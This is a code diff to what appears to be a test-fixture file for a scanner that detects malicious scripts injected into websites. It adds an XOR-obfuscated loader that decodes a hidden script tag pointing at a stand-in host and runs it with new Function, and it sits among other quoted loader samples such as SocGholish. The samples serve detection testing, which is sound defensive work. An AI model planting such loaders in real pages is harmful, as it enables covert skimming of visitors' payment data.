@@ -158,6 +158,17 @@ BALADA_CODED_TAG = (
     f"{_codes('text/javascript')}); el.src = String.fromCharCode("
     f"{_codes('https://pkg.weathertilesync.test/w/track?v=4')});el.putAfter(document."
     f"getElementsByTagName(String.fromCharCode({_codes('script')}))[0]);}})();</script>")
+# the checkout skimmer's XOR-and-reverse decoder run by `new Function`, its key a literal
+# of the script rather than the page's host name: read, it loads a script
+_XOR_KEY = "k3yZ"
+_XOR_HIDDEN = "".join(chr(ord(c) ^ ord(_XOR_KEY[i % 4])) for i, c in enumerate(
+    "var s=document.createElement('script');s.src='https://cdn.checkout-metrics.test/c.js';"
+    "document.head.appendChild(s);"))[::-1]
+XOR_KEYED_LOADER = (
+    "<script>!function(z,t){!(function(z){var n=(function(z,t){return z.split('').map("
+    "function(z,n){return String.fromCharCode(z.charCodeAt(0)^t.charCodeAt(n%t.length))"
+    "}).join('');})(z.split('').reverse().join(''),t);try{new Function(n)();}catch(e){}})(z)}('"
+    + "".join(f"\\x{ord(c):02x}" for c in _XOR_HIDDEN) + f"','{_XOR_KEY}');</script>")
 # SocGholish: an async loader whose address is base64
 SOCGHOLISH = (
     "<script>;(function(d,t){var s=d.createElement(t);s.async=true;s.src=atob('"
@@ -288,6 +299,8 @@ FAMILIES: list[tuple[str, dict[str, str], tuple[str, Severity]]] = [
         f"var t = String.fromCharCode({_codes('script')}); var el = document.createElement(t);"
     )}, ("obfuscated-script", H)),
     ("SocGholish atob loader, wp_footer", {"footer": SOCGHOLISH}, ("obfuscated-script", H)),
+    ("XOR-hidden loader run by new Function, its key in the script, wp_footer", {
+        "footer": XOR_KEYED_LOADER}, ("obfuscated-script", H)),
     ("fake browser update overlay", {"body_top": FAKE_UPDATE}, ("fake-update", H)),
     ("ClickFix clipboard.writeText", {"body_top": CLICKFIX_WRITE}, ("clipboard-command", H)),
     ("ClickFix execCommand('copy') of a hidden textarea", {"body_top": CLICKFIX_COPY},
